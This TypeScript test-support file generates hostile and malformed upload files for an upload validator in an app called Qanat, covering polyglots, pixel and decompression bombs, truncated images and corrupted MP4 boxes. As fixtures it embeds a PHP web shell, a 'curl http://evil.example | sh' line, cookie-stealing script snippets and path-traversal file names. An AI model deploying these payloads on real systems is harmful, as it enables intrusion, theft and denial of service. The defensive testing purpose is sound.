// Hostile and malformed upload files, made into a temporary folder when first asked for (sharp,
// ffmpeg with argument arrays, zlib and raw bytes; nothing binary is committed). Different from
// test/support/media-corpus.ts's few hostile files: other cut points, other formats, other lies.
//
// `mayBeAccepted` marks files that are valid pictures or videos after all (a JPEG with a ZIP
// after its end is still a JPEG; Qanat stores only what it re-encodes); every other file must be
// refused with a reason a person can read.
import { execFile } from 'node:child_process';
import { rmSync } from 'node:fs';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import zlib from 'node:zlib';
import sharp from 'sharp';

const run = promisify(execFile);

export type Target = 'feed' | 'reel';

export interface HostileFile {
  /** The file name the browser sends. */
  name: string;
  /** The post type it is uploaded to: pictures to a feed post, videos to a reel. */
  target: Target;
  /** What the file is, for the report. */
  what: string;
  mayBeAccepted?: true;
  /** A raw Content-Disposition file name (e.g. an encoded NUL), for names no quoted string can carry. */
  disposition?: string;
}

export interface MadeFile extends HostileFile {
  path: string;
}

const u32 = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n >>> 0);
  return b;
};
const text = (s: string) => Buffer.from(s, 'latin1');

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([text(type), data]);
  return Buffer.concat([u32(data.length), body, u32(zlib.crc32(body))]);
}
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function ihdr(width: number, height: number, depth: number, colour: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = depth;
  header[9] = colour;
  return pngChunk('IHDR', header);
}

/** An MP4 box: 32-bit size, type, payload. */
const box = (type: string, payload: Buffer, size = 8 + payload.length) => Buffer.concat([u32(size), text(type), payload]);

/** Top-level and nested MP4 boxes of interest, by type: [offset, size] of each. */
function findBoxes(file: Buffer, wanted: string, from = 0, to = file.length, found: Array<[number, number]> = []): Array<[number, number]> {
  const containers = new Set(['moov', 'trak', 'mdia', 'minf', 'stbl', 'edts']);
  for (let at = from; at + 8 <= to; ) {
    const size = file.readUInt32BE(at);
    const type = file.toString('latin1', at + 4, at + 8);
    if (size < 8 || at + size > to) break;
    if (type === wanted) found.push([at, size]);
    if (containers.has(type)) findBoxes(file, wanted, at + 8, at + size, found);
    at += size;
  }
  return found;
}

/** [offset, size] of the first PNG chunk of a type (size counts length, type, data and CRC). */
function findPngChunk(png: Buffer, type: string): [number, number] {
  for (let at = 8; at + 12 <= png.length; ) {
    const length = png.readUInt32BE(at);
    if (png.toString('latin1', at + 4, at + 8) === type) return [at, length + 12];
    at += length + 12;
  }
  throw new Error(`no ${type} chunk`);
}

/** A one-entry stored ZIP archive (local header, central directory, end record). */
function zipArchive(name = 'payload.js', data = text('alert(document.cookie)')): Buffer {
  const n = text(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(zlib.crc32(data), 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(n.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(zlib.crc32(data), 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(n.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + n.length, 12);
  end.writeUInt32LE(local.length + n.length + data.length, 16);
  return Buffer.concat([local, n, data, central, n, end]);
}

const noisyJpeg = (width = 640, height = 800) => sharp({ create: { width, height, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 40 } } }).jpeg({ quality: 85 }).toBuffer();
const flatPng = (width = 640, height = 800) => sharp({ create: { width, height, channels: 3, background: '#3a7' } }).png().toBuffer();

/** The offset of a JPEG marker (0xFF, `code`) after the start of image. */
function jpegMarker(jpeg: Buffer, code: number): number {
  for (let at = 2; at + 4 <= jpeg.length; ) {
    if (jpeg[at] !== 0xff) throw new Error('not at a JPEG marker');
    if (jpeg[at + 1] === code) return at;
    at += 2 + jpeg.readUInt16BE(at + 2);
  }
  throw new Error(`no JPEG marker ${code.toString(16)}`);
}

/** The JPEG with its frame header (SOF0) claiming another size. */
function jpegWithSize(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  const sof = jpegMarker(out, 0xc0);
  out.writeUInt16BE(height, sof + 5);
  out.writeUInt16BE(width, sof + 7);
  return out;
}

/** Minimal little-endian TIFF: one greyscale strip, whatever size the header claims. */
function tiff(width: number, height: number): Buffer {
  const entries: Array<[number, number, number]> = [
    [256, 4, width], // ImageWidth, LONG
    [257, 4, height], // ImageLength
    [258, 3, 8], // BitsPerSample
    [259, 3, 1], // Compression: none
    [262, 3, 1], // Photometric: black is zero
    [273, 4, 8 + 2 + 12 * 8 + 4], // StripOffsets: right after the IFD
    [278, 4, height], // RowsPerStrip
    [279, 4, 64], // StripByteCounts: far fewer bytes than claimed
  ];
  const ifd = Buffer.alloc(2 + entries.length * 12 + 4);
  ifd.writeUInt16LE(entries.length, 0);
  entries.forEach(([tag, type, value], i) => {
    ifd.writeUInt16LE(tag, 2 + i * 12);
    ifd.writeUInt16LE(type, 4 + i * 12);
    ifd.writeUInt32LE(1, 6 + i * 12);
    if (type === 3) ifd.writeUInt16LE(value, 10 + i * 12);
    else ifd.writeUInt32LE(value, 10 + i * 12);
  });
  return Buffer.concat([Buffer.from([0x49, 0x49, 0x2a, 0x00, 8, 0, 0, 0]), ifd, Buffer.alloc(64, 0x80)]);
}

/** A 4×4 24-bit Windows bitmap. */
function bmp(): Buffer {
  const pixels = Buffer.alloc(4 * 4 * 3, 0x40);
  const header = Buffer.alloc(54);
  header.write('BM', 0, 'latin1');
  header.writeUInt32LE(54 + pixels.length, 2);
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(4, 18);
  header.writeInt32LE(4, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  header.writeUInt32LE(pixels.length, 34);
  return Buffer.concat([header, pixels]);
}

/** A Windows icon holding one PNG. */
function ico(png: Buffer): Buffer {
  const dir = Buffer.from([0, 0, 1, 0, 1, 0]);
  const entry = Buffer.alloc(16);
  entry[0] = 32;
  entry[1] = 32;
  entry.writeUInt16LE(1, 4);
  entry.writeUInt16LE(32, 6);
  entry.writeUInt32LE(png.length, 8);
  entry.writeUInt32LE(22, 12);
  return Buffer.concat([dir, entry, png]);
}

/** A Windows executable's first bytes: "MZ", then the "PE" header it points to. */
function peExecutable(): Buffer {
  const out = Buffer.alloc(512);
  out.write('MZ', 0, 'latin1');
  out.writeUInt32LE(0x80, 0x3c);
  out.write('PE\0\0', 0x80, 'latin1');
  out.writeUInt16LE(0x14c, 0x84); // i386
  return out;
}

/** An EXIF block of 65 KB whose directory claims 65535 entries pointing past the end of the file. */
function absurdExif(): Buffer {
  const tiffHeader = Buffer.from([0x49, 0x49, 0x2a, 0x00, 8, 0, 0, 0, 0xff, 0xff]);
  const entries = Buffer.alloc(65_000);
  for (let at = 0; at + 12 <= entries.length; at += 12) {
    entries.writeUInt16LE(0x0112 + (at % 7), at); // Orientation and neighbours
    entries.writeUInt16LE(4, at + 2);
    entries.writeUInt32LE(0x7fffffff, at + 4);
    entries.writeUInt32LE(0xfffffff0, at + 8);
  }
  const payload = Buffer.concat([text('Exif\0\0'), tiffHeader, entries]).subarray(0, 65_533);
  const length = Buffer.alloc(2);
  length.writeUInt16BE(payload.length + 2);
  return Buffer.concat([Buffer.from([0xff, 0xe1]), length, payload]);
}

/** A WebP with a VP8X header claiming a `side`×`side` canvas around the small picture it holds. */
function webpCanvas(small: Buffer, side: number): Buffer {
  const vp8x = Buffer.alloc(10);
  vp8x.writeUIntLE(side - 1, 4, 3);
  vp8x.writeUIntLE(side - 1, 7, 3);
  const payload = Buffer.concat([text('WEBP'), text('VP8X'), Buffer.from([10, 0, 0, 0]), vp8x, small.subarray(12)]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(payload.length);
  return Buffer.concat([text('RIFF'), size, payload]);
}

const ffmpeg = (args: string[]) => run('ffmpeg', ['-hide_banner', '-v', 'error', '-y', ...args], { maxBuffer: 1024 * 1024 });
const testsrc = (size: string, seconds: number, fps = 25) => ['-f', 'lavfi', '-i', `testsrc=size=${size}:rate=${fps}:duration=${seconds}`];
const h264 = ['-c:v', 'libx264', '-preset', 'ultrafast', '-pix_fmt', 'yuv420p'];

/** Writes the MP4 from ffmpeg arguments into the folder and returns its bytes. */
async function encode(dir: string, name: string, args: string[]): Promise<Buffer> {
  const file = path.join(dir, `src-${name}`);
  await ffmpeg([...args, file]);
  return readFile(file);
}

/** The MP4 with every duration field (mvhd, tkhd, mdhd, elst) set to the largest 32-bit value. */
function absurdDuration(mp4: Buffer): Buffer {
  const out = Buffer.from(mp4);
  // Offsets of the duration field for version-0 boxes: after size, type, version/flags and the fields before it.
  for (const [at] of findBoxes(out, 'mvhd')) out.writeUInt32BE(0xffffffff, at + 24);
  for (const [at] of findBoxes(out, 'tkhd')) out.writeUInt32BE(0xffffffff, at + 28);
  for (const [at] of findBoxes(out, 'mdhd')) out.writeUInt32BE(0xffffffff, at + 24);
  for (const [at] of findBoxes(out, 'elst')) out.writeUInt32BE(0xffffffff, at + 16);
  return out;
}

/** The MP4 with one box's 32-bit size field replaced. */
function withBoxSize(mp4: Buffer, type: string, size: number): Buffer {
  const found = findBoxes(mp4, type)[0];
  if (!found) throw new Error(`no ${type} box`);
  const out = Buffer.from(mp4);
  out.writeUInt32BE(size >>> 0, found[0]);
  return out;
}

type Maker = (dir: string) => Promise<Buffer>;

const FTYP = box('ftyp', Buffer.concat([text('isom'), u32(512), text('isomiso2avc1mp41')]));
/** A valid 4 s reel with its index (moov) first, made once: the MP4 surgery below starts from it. */
let reel: Promise<Buffer> | undefined;
const reelSource = (dir: string) => (reel ??= encode(dir, 'reel.mp4', [...testsrc('320x568', 4), '-f', 'lavfi', '-i', 'sine=frequency=440:sample_rate=48000:duration=4', ...h264, '-c:a', 'aac', '-shortest', '-movflags', '+faststart']));

export const HOSTILE: Array<HostileFile & { make: Maker }> = [
  // Polyglots: one file, two formats.
  { name: 'zip-then-jpeg.jpg', target: 'feed', what: 'a ZIP archive with a JPEG after it', make: async () => Buffer.concat([zipArchive(), await noisyJpeg()]) },
  { name: 'gif-js-polyglot.gif', target: 'feed', what: 'GIF89a header that is also JavaScript', make: async () => text('GIF89a/*\x00\x00\x00\x00\x00*/=alert(document.cookie);//\x3b') },
  { name: 'pdf-jpeg-polyglot.jpg', target: 'feed', what: 'a PDF carrying a JPEG stream', make: async () => Buffer.concat([text('%PDF-1.4\n1 0 obj << /Length 9999 >> stream\n'), await noisyJpeg(), text('\nendstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')]) },
  { name: 'jpeg-zip-polyglot.jpg', target: 'feed', what: 'a valid JPEG with a ZIP after its end', mayBeAccepted: true, make: async () => Buffer.concat([await noisyJpeg(), zipArchive()]) },
  { name: 'png-html-appended.png', target: 'feed', what: 'a valid PNG with an HTML page after IEND', mayBeAccepted: true, make: async () => Buffer.concat([await flatPng(), text('<!doctype html><script>alert(document.cookie)</script>')]) },
  // Other kinds of file wearing a picture's or a video's name.
  { name: 'page.html.png', target: 'feed', what: 'an HTML page named .png', make: async () => text('<!DOCTYPE html><html><body onload="alert(1)"><h1>hi</h1></body></html>') },
  { name: 'vector.svg.png', target: 'feed', what: 'an SVG with an onload script named .png', make: async () => text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="900" height="900" onload="alert(1)"><rect width="900" height="900"/></svg>') },
  { name: 'shell.php.jpg', target: 'feed', what: 'a PHP web shell named .jpg', make: async () => text('<?php system($_GET["c"]); ?>\n') },
  { name: 'drawing.svgz.png', target: 'feed', what: 'a gzip-compressed SVG named .png', make: async () => zlib.gzipSync(text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')) },
  { name: 'invoice.pdf.exe.jpg', target: 'feed', what: 'a Windows executable with a double extension', make: async () => peExecutable() },
  { name: '../../etc/passwd', target: 'feed', what: 'a password file named ../../etc/passwd', make: async () => text('root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n') },
  { name: 'evil.php.jpg', target: 'feed', what: 'a PHP script whose name carries ../ and an encoded NUL', disposition: "filename*=UTF-8''..%2F..%2Fevil%00.php.jpg", make: async () => text('<?php echo 1; ?>') },
  { name: 'shell.sh.mp4', target: 'reel', what: 'a shell script named .mp4', make: async () => text('#!/bin/sh\ncurl http://evil.example | sh\n') },
  { name: 'page.html.mp4', target: 'reel', what: 'an HTML page named .mp4', make: async () => text('<html><script>alert(1)</script></html>') },
  // Truncated pictures, cut at several points.
  { name: 'jpeg-header-only.jpg', target: 'feed', what: 'a JPEG cut before its scan (headers only)', make: async () => { const j = await noisyJpeg(); return j.subarray(0, jpegMarker(j, 0xda)); } },
  { name: 'jpeg-cut-after-sos.jpg', target: 'feed', what: 'a JPEG cut 40 bytes into its scan', make: async () => { const j = await noisyJpeg(); return j.subarray(0, jpegMarker(j, 0xda) + 40); } },
  { name: 'jpeg-cut-30pct.jpg', target: 'feed', what: 'a JPEG cut at 30 %', make: async () => { const j = await noisyJpeg(1200, 1500); return j.subarray(0, Math.floor(j.length * 0.3)); } },
  { name: 'png-ihdr-only.png', target: 'feed', what: 'a PNG signature and IHDR, nothing else', make: async () => Buffer.concat([PNG_SIGNATURE, ihdr(800, 800, 8, 2)]) },
  { name: 'png-cut-mid-idat.png', target: 'feed', what: 'a PNG cut in the middle of its pixel data', make: async () => { const p = await sharp({ create: { width: 800, height: 1000, channels: 3, background: '#888', noise: { type: 'gaussian', mean: 128, sigma: 50 } } }).png().toBuffer(); return p.subarray(0, Math.floor(p.length / 2)); } },
  // libspng does not check critical chunks' checksums; the pixels are intact, and only the re-encoded JPEG is kept.
  { name: 'png-bad-crc.png', target: 'feed', what: 'a PNG whose IHDR checksum is wrong', mayBeAccepted: true, make: async () => { const p = Buffer.from(await flatPng()); p[29] = (p[29] ?? 0) ^ 0xff; return p; } },
  { name: 'png-idat-garbled.png', target: 'feed', what: 'a PNG whose compressed pixel data is overwritten with noise', make: async () => { const p = Buffer.from(await sharp({ create: { width: 640, height: 800, channels: 3, background: '#888', noise: { type: 'gaussian', mean: 128, sigma: 50 } } }).png().toBuffer()); const [at = 0] = findPngChunk(p, 'IDAT'); for (let i = at + 8 + 20; i < at + 8 + 2000; i++) p[i] = (i * 131) & 0xff; return p; } },
  { name: 'avif-truncated.avif', target: 'feed', what: 'an AVIF cut at 40 %', make: async () => { const a = await sharp({ create: { width: 600, height: 750, channels: 3, background: '#a73', noise: { type: 'gaussian', mean: 100, sigma: 30 } } }).avif({ effort: 0 }).toBuffer(); return a.subarray(0, Math.floor(a.length * 0.4)); } },
  { name: 'webp-riff-lies.webp', target: 'feed', what: 'a WebP claiming 2 GB in its RIFF header, cut at 60 %', make: async () => { const w = Buffer.from(await sharp({ create: { width: 600, height: 750, channels: 3, background: '#37a', noise: { type: 'gaussian', mean: 100, sigma: 30 } } }).webp().toBuffer()); w.writeUInt32LE(0x7ffffff0, 4); return w.subarray(0, Math.floor(w.length * 0.6)); } },
  { name: 'heic-fake.heic', target: 'feed', what: 'a HEIC file type box followed by garbage', make: async () => Buffer.concat([box('ftyp', Buffer.concat([text('heic'), u32(0), text('mif1heic')])), Buffer.alloc(2000, 0x5a)]) },
  // Decompression and pixel bombs: small files declaring enormous pictures.
  { name: 'png-bomb-20000.png', target: 'feed', what: 'a PNG declaring 20000×20000 RGB (1.2 GB decoded) from zlib-compressed zeros', make: async () => Buffer.concat([PNG_SIGNATURE, ihdr(20_000, 20_000, 8, 2), pngChunk('IDAT', zlib.deflateSync(Buffer.alloc((1 + 20_000 * 3) * 200), { level: 9 })), pngChunk('IEND', Buffer.alloc(0))]) },
  { name: 'png-ztxt-bomb.png', target: 'feed', what: 'a 640×800 PNG with a text chunk that inflates to 128 MB', mayBeAccepted: true, make: async () => { const p = await flatPng(); const bomb = pngChunk('zTXt', Buffer.concat([text('Comment\0\0'), zlib.deflateSync(Buffer.alloc(128 * 1024 * 1024, 0x41), { level: 9 })])); return Buffer.concat([p.subarray(0, 33), bomb, p.subarray(33)]); } },
  { name: 'jpeg-30000.jpg', target: 'feed', what: 'a JPEG whose frame header declares 30000×30000 (900 MP)', make: async () => jpegWithSize(await noisyJpeg(), 30_000, 30_000) },
  { name: 'jpeg-65535.jpg', target: 'feed', what: 'a JPEG whose frame header declares 65535×65535', make: async () => jpegWithSize(await noisyJpeg(), 65_535, 65_535) },
  { name: 'webp-65535.webp', target: 'feed', what: 'a WebP whose canvas (VP8X) declares 65535×65535', make: async () => webpCanvas(await sharp({ create: { width: 64, height: 64, channels: 3, background: '#a33' } }).webp({ lossless: true }).toBuffer(), 65_535) },
  // libvips takes the frame's size (8×8), not the screen's, and decodes only that: a small picture after all.
  { name: 'gif-screen-65535.gif', target: 'feed', what: 'a GIF whose logical screen is 65535×65535 around an 8×8 frame', mayBeAccepted: true, make: async () => { const g = Buffer.from(await sharp({ create: { width: 8, height: 8, channels: 3, background: '#f00' } }).gif().toBuffer()); g.writeUInt16LE(65_535, 6); g.writeUInt16LE(65_535, 8); return g; } },
  { name: 'tiff-100000.tif', target: 'feed', what: 'a TIFF declaring 100000×100000 with 64 bytes of pixels', make: async () => tiff(100_000, 100_000) },
  // Wrong magic bytes.
  { name: 'png-magic-on-jpeg.jpg', target: 'feed', what: 'a PNG signature in front of a JPEG body', make: async () => Buffer.concat([PNG_SIGNATURE, (await noisyJpeg()).subarray(2)]) },
  { name: 'jpeg-magic-on-png.png', target: 'feed', what: 'JPEG magic bytes in front of a PNG body', make: async () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), (await flatPng()).subarray(8)]) },
  { name: 'jpeg-zero-size.jpg', target: 'feed', what: 'a JPEG whose frame header says 0×0', make: async () => jpegWithSize(await noisyJpeg(), 0, 0) },
  { name: 'exif-absurd.jpg', target: 'feed', what: 'a JPEG with a 65 KB EXIF block of 65535 entries pointing past the file', mayBeAccepted: true, make: async () => { const j = await noisyJpeg(); return Buffer.concat([j.subarray(0, 2), absurdExif(), j.subarray(2)]); } },
  { name: 'zero-bytes.png', target: 'feed', what: 'a zero-byte file', make: async () => Buffer.alloc(0) },
  { name: 'one-byte.jpg', target: 'feed', what: 'a one-byte file (0xFF)', make: async () => Buffer.from([0xff]) },
  // Formats that are pictures, but not ones Qanat takes, and ones it does.
  { name: 'bitmap.bmp.jpg', target: 'feed', what: 'a Windows bitmap named .jpg', make: async () => bmp() },
  { name: 'favicon.ico.jpg', target: 'feed', what: 'a Windows icon (holding a PNG) named .jpg', make: async () => ico(await sharp({ create: { width: 32, height: 32, channels: 4, background: '#0a0' } }).png().toBuffer()) },
  { name: 'scan.tif', target: 'feed', what: 'a valid TIFF photo', mayBeAccepted: true, make: async () => sharp({ create: { width: 800, height: 800, channels: 3, background: '#557' } }).tiff().toBuffer() },
  { name: 'animated.png', target: 'feed', what: 'a valid animated PNG (APNG, 10 frames)', mayBeAccepted: true, make: (dir) => encode(dir, 'anim.apng', [...testsrc('400x400', 1, 10), '-plays', '0', '-f', 'apng']) },
  { name: 'gif-many-frames.gif', target: 'feed', what: 'a GIF of 150 frames of 600×600', mayBeAccepted: true, make: async () => { const frame = await sharp({ create: { width: 600, height: 600, channels: 3, background: '#09c' } }).png().toBuffer(); return sharp(Array.from({ length: 150 }, () => frame), { join: { animated: true } }).gif().toBuffer(); } },
  // Malformed MP4 atoms.
  { name: 'mp4-moov-larger-than-file.mp4', target: 'reel', what: 'an MP4 whose mvhd box claims 2 GB', make: async (dir) => withBoxSize(await reelSource(dir), 'mvhd', 0x7ffffff0) },
  // Size 0 means "to the end of the parent", which ffmpeg honours inside moov: every frame is still readable.
  { name: 'mp4-trak-size-zero.mp4', target: 'reel', what: 'an MP4 whose trak box has size 0', mayBeAccepted: true, make: async (dir) => withBoxSize(await reelSource(dir), 'trak', 0) },
  { name: 'mp4-size-zero-swallows.mp4', target: 'reel', what: 'an MP4 with a size-0 free box after ftyp, swallowing moov and mdat', make: async (dir) => { const m = await reelSource(dir); const [at = 0, size = 0] = findBoxes(m, 'ftyp')[0] ?? []; return Buffer.concat([m.subarray(0, at + size), u32(0), text('free'), m.subarray(at + size)]); } },
  { name: 'mp4-size-one-bogus64.mp4', target: 'reel', what: 'an MP4 whose moov has size 1 and a 64-bit size of 2^64−1', make: async (dir) => { const m = await reelSource(dir); const [at = 0, size = 0] = findBoxes(m, 'moov')[0] ?? []; return Buffer.concat([m.subarray(0, at), u32(1), text('moov'), Buffer.alloc(8, 0xff), m.subarray(at + 8, at + size), m.subarray(at + size)]); } },
  { name: 'mp4-no-moov.mp4', target: 'reel', what: 'ftyp and mdat without the index (moov)', make: async (dir) => { const m = await reelSource(dir); const [at = 0, size = 0] = findBoxes(m, 'moov')[0] ?? []; return Buffer.concat([m.subarray(0, at), m.subarray(at + size)]); } },
  { name: 'mp4-ftyp-only.mp4', target: 'reel', what: 'an ftyp box and nothing else', make: async () => FTYP },
  { name: 'mp4-mdat-only.mp4', target: 'reel', what: 'an mdat box of noise, no ftyp, no moov', make: async () => box('mdat', zlib.deflateSync(Buffer.alloc(100_000, 7))) },
  { name: 'mp4-atom-loop.mp4', target: 'reel', what: 'an MP4 whose moov holds 50000 empty trak boxes and a 4-byte box', make: async () => Buffer.concat([FTYP, box('moov', Buffer.concat([...Array.from({ length: 50_000 }, () => box('trak', Buffer.alloc(0))), u32(4), text('trak')])), box('mdat', Buffer.alloc(64))]) },
  { name: 'mp4-deep-nesting.mp4', target: 'reel', what: 'an MP4 with moov/trak/mdia boxes nested 3000 deep', make: async () => { let inner = box('mvhd', Buffer.alloc(100)); for (let i = 0; i < 3000; i++) inner = box(['trak', 'mdia', 'minf'][i % 3] as string, inner); return Buffer.concat([FTYP, box('moov', inner)]); } },
  { name: 'mp4-header-64-bytes.mp4', target: 'reel', what: 'the first 64 bytes of a valid MP4', make: async (dir) => (await reelSource(dir)).subarray(0, 64) },
  { name: 'mp4-faststart-cut-half.mp4', target: 'reel', what: 'an MP4 with its index first, cut at 50 % (index intact, half the frames missing)', make: async (dir) => { const m = await reelSource(dir); return m.subarray(0, Math.floor(m.length / 2)); } },
  { name: 'mp4-absurd-duration.mp4', target: 'reel', what: 'an MP4 whose mvhd, tkhd, mdhd and elst durations say 2^32−1', make: async (dir) => absurdDuration(await reelSource(dir)) },
  // Readable videos Instagram cannot take.
  { name: 'one-second.mp4', target: 'reel', what: 'a one-second video (reels need 3 s)', make: (dir) => encode(dir, '1s.mp4', [...testsrc('320x568', 1), ...h264]) },
  { name: 'sliver-2000x16.mp4', target: 'reel', what: 'a 2000×16 video (125:1)', make: (dir) => encode(dir, 'sliver.mp4', [...testsrc('2000x16', 4), ...h264]) },
  { name: 'audio-only-opus.mp4', target: 'reel', what: 'Opus audio in MP4, no picture', make: (dir) => encode(dir, 'opus.mp4', ['-f', 'lavfi', '-i', 'sine=frequency=330:sample_rate=48000:duration=5', '-c:a', 'libopus', '-f', 'mp4']) },
  { name: 'mpeg4-part2.mp4', target: 'reel', what: 'MPEG-4 Part 2 video in MP4 (transcoded to H.264)', mayBeAccepted: true, make: (dir) => encode(dir, 'mpeg4.mp4', [...testsrc('320x568', 4), '-c:v', 'mpeg4', '-q:v', '5']) },
];

async function generate(): Promise<MadeFile[]> {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'qanat-hostile-'));
  process.once('exit', () => rmSync(dir, { recursive: true, force: true }));
  const made: MadeFile[] = [];
  // One at a time: the bombs are built in memory, and two cores are shared.
  for (const { make, ...file } of HOSTILE) {
    const target = path.join(dir, `${made.length}-${path.basename(file.name).replace(/[^\w.-]/g, '_')}`);
    await writeFile(target, await make(dir));
    made.push({ ...file, path: target });
  }
  return made;
}

let generated: Promise<MadeFile[]> | undefined;
/** Generated on first use, once per test run. */
export function hostileFiles(): Promise<MadeFile[]> {
  generated ??= generate();
  return generated;
}
